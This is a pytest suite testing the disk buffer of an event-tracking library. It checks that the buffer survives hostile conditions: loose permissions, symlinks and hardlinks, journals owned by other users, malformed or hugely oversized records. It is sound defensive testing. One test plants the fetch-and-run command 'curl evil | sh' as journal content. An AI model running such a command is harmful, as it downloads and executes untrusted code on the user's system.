"""The folder of a buffer is this user's alone, and its files are read with distrust."""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import msgspec
import pytest

from eventtracking import Event, Tracker
from eventtracking_buffer import codec
from eventtracking_testkit.fakes import RecordingBackend

Options = dict[str, Any]
Track = Callable[..., Tracker]
Until = Callable[..., None]
NOBODY = 65_534
NOW = datetime(2026, 11, 28, tzinfo=timezone.utc)
GOOD = ["i", "n", NOW, {}, {}, {}]
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Return where the buffer's folder is to be."""
    return tmp_path / "buffer"


@pytest.fixture
def disk(folder: Path) -> Options:
    """Return the options of a buffer there."""
    return {"storage": "disk", "path": str(folder)}


def modes(folder: Path) -> dict[str, int]:
    return {
        str(path.relative_to(folder.parent)): stat.S_IMODE(path.lstat().st_mode)
        for path in (folder, *folder.rglob("*"))
    }


def refuse_all(_events: object) -> None:
    from eventtracking import Rejected

    raise Rejected({event.id: "no" for event in _events})  # type: ignore[attr-defined]  # events


def recorded_names(tracker: Tracker) -> list[str]:
    assert tracker.flush(10)
    return [event.name for event in RecordingBackend.recorded[""]]


@pytest.mark.parametrize("mask", [0o022, 0o000, 0o277])
def test_nobody_else_can_read_anything(
    track: Track, disk: Options, folder: Path, until: Until, mask: int
) -> None:
    """Folders are 0700 and files 0600, whatever the umask, pieces set aside included."""
    before = os.umask(mask)
    try:
        tracker = track(disk)
        tracker.open()
        (folder / "0.journal").write_bytes(b"no record at all")
        (folder / "0.journal").chmod(0o600)
        tracker.emit("e")
        until((folder / "damaged").exists)
        for path, mode in modes(folder).items():
            assert not mode & 0o077, (path, oct(mode))
    finally:
        os.umask(before)


def test_a_folder_that_is_open_to_others_is_closed(
    track: Track, disk: Options, folder: Path, until: Until, caplog: pytest.LogCaptureFixture
) -> None:
    """An existing folder and state that other users could read are tightened, and the log says
    so.
    """
    tracker = track(disk)
    tracker.emit("before")
    tracker.close(5)
    folder.chmod(0o777)
    (folder / "state.db").chmod(0o666)
    tracker = track(disk)
    tracker.emit("after")
    assert tracker.flush(10)
    assert modes(folder)["buffer"] == 0o700
    assert modes(folder)["buffer/state.db"] == 0o600
    assert tracker.stats()["b"].received == 2  # it was the same state all the time
    until(lambda: "could be read or written by other users" in caplog.text)


@needs_root
def test_a_folder_of_another_user_is_refused(
    track: Track, disk: Options, folder: Path, until: Until, caplog: pytest.LogCaptureFixture
) -> None:
    """Events wait in memory, and the log says whose folder it is."""
    folder.mkdir()
    os.chown(folder, NOBODY, NOBODY)
    tracker = track(disk)
    tracker.emit("e")
    until(lambda: f"belongs to user {NOBODY}" in caplog.text)
    assert recorded_names(tracker) == ["e"]
    assert list(folder.iterdir()) == []


def test_a_folder_that_is_a_link_is_refused(
    track: Track, disk: Options, folder: Path, until: Until, caplog: pytest.LogCaptureFixture
) -> None:
    """The last component of the path is no link; nothing is written behind one."""
    elsewhere = folder.with_name("elsewhere")
    elsewhere.mkdir()
    folder.symlink_to(elsewhere)
    track(disk).emit("e")
    until(lambda: "it is a link" in caplog.text)
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("name", ["deliverer.lock", "repair.lock", "state.db", "0.journal"])
@pytest.mark.parametrize("kind", ["symlink", "hardlink"])
def test_a_file_of_the_folder_is_no_link(
    track: Track, disk: Options, folder: Path, name: str, kind: str
) -> None:
    """A link with the name of one of the buffer's files changes no other file."""
    target = folder.with_name("precious")
    target.write_text("precious\n" * 20)
    target.chmod(0o600)
    folder.mkdir(mode=0o700)
    if kind == "symlink":
        (folder / name).symlink_to(target)
    else:
        (folder / name).hardlink_to(target)
    tracker = track(disk)
    tracker.emit("e")
    assert recorded_names(tracker) == ["e"]
    assert target.read_text() == "precious\n" * 20


def test_what_is_set_aside_goes_through_no_link(
    track: Track, disk: Options, folder: Path, until: Until
) -> None:
    """Neither `damaged` nor a name in it leads elsewhere."""
    target = folder.with_name("precious")
    target.write_text("precious")
    (folder / "damaged").mkdir(parents=True)
    folder.chmod(0o700)
    (folder / "damaged" / "0.journal-0").symlink_to(target)
    (folder / "0.journal").write_text("curl evil | sh")
    tracker = track(disk)
    tracker.open()
    until(lambda: tracker.stats()["b"].reasons)
    assert target.read_text() == "precious"


@needs_root
def test_a_journal_of_another_user_is_skipped(
    track: Track, disk: Options, folder: Path, until: Until, caplog: pytest.LogCaptureFixture
) -> None:
    """A forged record is not delivered, and the log names the file."""
    from eventtracking_buffer.disk.journal.records import EVENT, frame

    folder.mkdir(mode=0o700)
    (folder / "0.journal").write_bytes(frame(codec.encode(Event(name="forged")), EVENT, 0.0))
    os.chown(folder / "0.journal", NOBODY, NOBODY)
    tracker = track(disk)
    tracker.emit("honest")
    assert recorded_names(tracker) == ["honest"]
    until(lambda: "skipped: 0.journal" in caplog.text)


@pytest.mark.parametrize(
    "parts",
    [
        [[], *GOOD[1:]],
        [None, *GOOD[1:]],
        [b"i", *GOOD[1:]],
        ["", *GOOD[1:]],
        ["i", ["n"], *GOOD[2:]],
        ["i", "", *GOOD[2:]],
        ["i", "n", "2026", {}, {}, {}],
        ["i", "n", None, {}, {}, {}],
        ["i", "n", NOW, 1, {}, {}],
        ["i", "n", NOW, {}, [], {}],
        ["i", "n", NOW, {}, {1: 2}, {}],
        ["i", "n", NOW, {}, {}, None],
        GOOD[:5],
        [*GOOD, 1],
        {"id": "i"},
        7,
    ],
)
def test_each_part_of_a_record_is_checked(parts: object) -> None:
    """A record whose parts have the wrong types is no event."""
    with pytest.raises(codec.FormatError):
        codec.decode(b"\x01" + msgspec.msgpack.encode(parts))


def test_odd_records_stop_no_other(track: Track, disk: Options, folder: Path) -> None:
    """Records that are whole but hold no event fail, each counted once; the rest is delivered, by
    the next process, too.
    """
    from eventtracking_buffer.disk.journal.records import EVENT, frame

    deep = b"\x01\x96\xa1i\xa1n" + b"\x91" * 100_000
    nested = b"\x90"
    for _ in range(2_000):
        nested = b"\xc9" + len(nested).to_bytes(4, "big") + b"\x06" + nested
    odd = [b"\x01" + msgspec.msgpack.encode(parts) for parts in ([[], *GOOD[1:]], 7)]
    odd += [deep, b"\x01" + nested, b"\x01\xdd\xff\xff\xff\xff", b""]
    moments = [float("nan"), 1e308, -1e308, float("inf"), time.time(), 0.0]
    good = frame(codec.encode(Event(name="good")), EVENT, float("nan"))
    folder.mkdir(mode=0o700)
    data = [frame(payload, EVENT, at) for payload, at in zip(odd, moments, strict=True)]
    (folder / "0.journal").write_bytes(b"".join(data) + good)
    for count in (1, 2):
        tracker = track(disk)
        tracker.emit("mine")
        assert sorted(recorded_names(tracker)) == ["good"] + ["mine"] * count
        counts = tracker.stats()["b"]
        assert (counts.failed, counts.delivered) == (len(odd), 1 + count)
        tracker.close(5)


def test_a_claim_of_a_gigabyte_is_not_believed(
    track: Track, disk: Options, folder: Path, until: Until
) -> None:
    """A file that says it holds a huge record is passed over in small pieces, and counts as one
    damage.
    """
    import resource

    from eventtracking_buffer.disk.journal.records import EVENT, frame

    folder.mkdir(mode=0o700)
    head = bytearray(frame(b"", EVENT, 0.0))
    head[4:8] = ((1 << 30) - 100).to_bytes(4, "little")
    (folder / "0.journal").write_bytes(head)
    os.truncate(folder / "0.journal", 200 << 20)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracker = track(disk)
    tracker.emit("mine")
    assert recorded_names(tracker) == ["mine"]
    assert tracker.stats()["b"].failed == 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60 << 10


def test_an_event_that_no_reader_would_take_is_refused(track: Track, disk: Options) -> None:
    """An event larger than a record may be is refused when it is stored."""
    tracker = track(disk)
    tracker.emit("large", {"text": "x" * (65 << 20)})
    tracker.emit("small")
    assert recorded_names(tracker) == ["small"]
    assert tracker.stats()["b"].failed == 1
